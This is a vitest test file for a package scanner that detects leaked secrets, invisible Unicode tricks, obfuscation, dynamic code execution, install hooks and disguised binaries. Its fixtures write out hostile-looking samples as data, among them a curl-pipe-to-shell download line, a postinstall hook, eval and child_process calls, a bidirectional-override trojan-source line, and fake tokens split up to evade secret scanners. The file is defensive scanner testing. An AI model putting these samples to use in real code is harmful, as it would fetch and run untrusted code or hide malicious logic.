import { expect, it, test } from 'vitest';
import { PackageScan } from './package-scan.ts';
import { defaultSwitches, type OwnPattern } from './scans.schema.ts';

function scan(path: string, content: string | Buffer, patterns: OwnPattern[] = [], switches = defaultSwitches) {
  const all = new PackageScan({ switches, patterns });
  const file = all.open(path);
  const bytes = Buffer.from(content);
  for (let at = 0; at < bytes.length; at += 10_000) file.take(bytes.subarray(at, at + 10_000));
  file.end();
  return all.result();
}
const rules = (path: string, content: string | Buffer) =>
  scan(path, content).findings.map(({ check, rule }) => `${check} ${rule}`);

// put together here, so that no scanner of secrets takes this file for a leak
const key = {
  github: ['ghp', 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3gH6'].join('_'),
  aws: ['AKIA', 'QZ7WXN4RT2VB5KLM'].join(''),
  private: ['-----BEGIN', 'PRIVATE', 'KEY-----'].join(' '),
};

test.each([
  ['secrets github-token', 'a.js', `const token = "${key.github}";`],
  ['secrets aws-access-key', 'config.json', `{"key": "${key.aws}"}`],
  ['secrets private-key', 'key.pem', `${key.private}\nMIIE`],
  ['secrets assigned-secret', 'a.py', 'api_key = "9fK2xQ7bT4mZ8wR1vL6pN3cD"'],
  ['secrets database-address', '.env', 'DB=postgres://app:n7Xq2LpZ9w@db/app'],
  ['invisible turned-direction', 'a.js', 'if (isAdmin\u202e) {}'],
  ['invisible hidden-text', 'a.js', 'eval`\ufe01\ufe02\ufe03\ufe04`'],
  ['invisible blank-letter', 'a.js', 'const \u3164 = 1;'],
  ['invisible zero-width', 'a.js', 'const a\u200b = 1;'],
  ['invisible null-character', 'a.js', 'x\0y'],
  ['obfuscation escaped-text', 'a.js', '"\\x41\\x42"'.replace('\\x41', '\\x41'.repeat(60))],
  ['obfuscation obfuscator-names', 'a.js', Array.from({ length: 30 }, (_, i) => `_0x4a${i + 10}f(1);`).join('')],
  ['obfuscation long-line', 'a.js', 'a=1;'.repeat(6000)],
  ['dynamic-code eval', 'a.js', 'eval(code)'],
  ['dynamic-code new-function', 'a.mjs', 'new Function("return 1")()'],
  ['dynamic-code process-start', 'a.js', 'require("child_process")'],
  ['dynamic-code remote-script', 'a.html', '<script async src="//cdn.example.net/a.js"></script>'],
  ['dynamic-code python-process', 'a.py', 'os.system("ls")'],
  ['dynamic-code shell-download', 'a.js', '// curl -s https://x.example.net/i | sh'],
  ['install-scripts package-script', 'package.json', '{"scripts": {"postinstall": "node x.js"}}'],
  ['install-scripts script-file', 'setup.bat', 'echo hello'],
  ['install-scripts script-head', 'tool', '#!/bin/sh\necho'],
  ['binaries elf', 'tool', Buffer.from('\x7fELF\x02\x01', 'latin1')],
  ['binaries windows-program', 'tool.bin', Buffer.from('MZ\x90\0', 'latin1')],
  ['binaries program-name', 'tool.dll', 'text'],
  ['binaries webassembly', 'a.wasm', Buffer.from('\0asm\x01', 'latin1')],
  ['binaries archive-zip', 'a.dat', Buffer.from('PK\x03\x04', 'latin1')],
  ['binaries disguised', 'icon.png', 'alert(1)'],
])('finds %s', (found, path, content) => {
  expect(rules(path, content)).toContain(found);
});

test.each([
  ['a plain script', 'a.js', 'export const evaluate = (x) => retrieval(x);\n// medieval(1)\n'],
  ['a placeholder', 'a.js', 'const apiKey = "xxxxxxxxxxxxxxxxxxxxxxxx";'],
  [
    'emoji and flags',
    'a.js',
    'const face = "👨\u200d👩\u200d👧 ❤\ufe0f 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";',
  ],
  ['right-to-left marks in a translation', 'he.json', '{"a": "\u202bשלום\u202c"}'],
  ['a film', 'a.mp4', Buffer.from('\0\0\0\x18ftypmp42')],
  ['a picture', 'a.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0])],
  ['a text that begins as programs do', 'notes.md', 'MZ is how programs of Windows begin'],
  ['a mark at the beginning', 'a.js', '\ufeffexport {}'],
])('finds nothing in %s', (_name, path, content) => {
  expect(rules(path, content)).toEqual([]);
});

it('tells file and line, and never gives the secret away', () => {
  const { findings } = scan('lib/a.js', `\n\nrun(eval(x), "${key.github}")`);
  expect(findings).toMatchObject([
    { check: 'dynamic-code', rule: 'eval', file: 'lib/a.js', line: 3, severity: 'warning' },
    { check: 'secrets', rule: 'github-token', file: 'lib/a.js', line: 3, severity: 'error' },
  ]);
  expect(JSON.stringify(findings)).not.toContain(key.github.slice(6));
});

it('finds what stands across the cuts of a long text, once, at its line', () => {
  const before = 'x'.repeat(65_530);
  const { findings } = scan('a.js', `\n${before} "${key.github}"\n${'y\n'.repeat(40_000)}eval(1)`);
  expect(findings.filter(({ check }) => check === 'secrets')).toMatchObject([{ line: 2 }]);
  expect(findings.filter(({ rule }) => rule === 'eval')).toMatchObject([{ line: 40_003 }]);
});

it('reads UTF-16 as script hosts do', () => {
  const text = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Invoke-Expression $x', 'utf16le')]);
  expect(rules('a.ps1', text)).toContain('dynamic-code powershell-run');
});

it('lists so many findings of a kind and counts the rest', () => {
  const { findings, found } = scan('a.js', 'eval(1)\n'.repeat(300));
  expect(findings).toHaveLength(5);
  expect(found['dynamic-code']).toBe(300);
});

it('looks for the operator’s own patterns, which end in time whatever they are', () => {
  const pattern = { rule: 'own-code', pattern: '(a+)+END-\\d{4}', severity: 'error' as const };
  const { findings } = scan('a.txt', `${'a'.repeat(5000)}!\nEND ${'a'.repeat(10)}END-1234`, [pattern]);
  expect(findings).toMatchObject([{ check: 'secrets', rule: 'own-code', line: 2 }]);
});

it('does not do what is switched off', () => {
  const off = { ...defaultSwitches, secrets: { isEnabled: false, isEnforced: true, isRequired: true } };
  expect(scan('a.js', `"${key.github}"`, [], off)).toMatchObject({ findings: [], found: { secrets: 0 } });
});

it('lists the servers that a package names', () => {
  const { hosts } = scan(
    'a.js',
    'fetch("https://API.example.net/v1"); x("http://10.0.0.8:80/"); "wss://a.b.example.net"',
  );
  expect(hosts).toMatchObject([
    { host: 'api.example.net', isPlain: false, isNumber: false },
    { host: '10.0.0.8', isPlain: true, isNumber: true },
    { host: 'a.b.example.net', isPlain: false },
  ]);
});
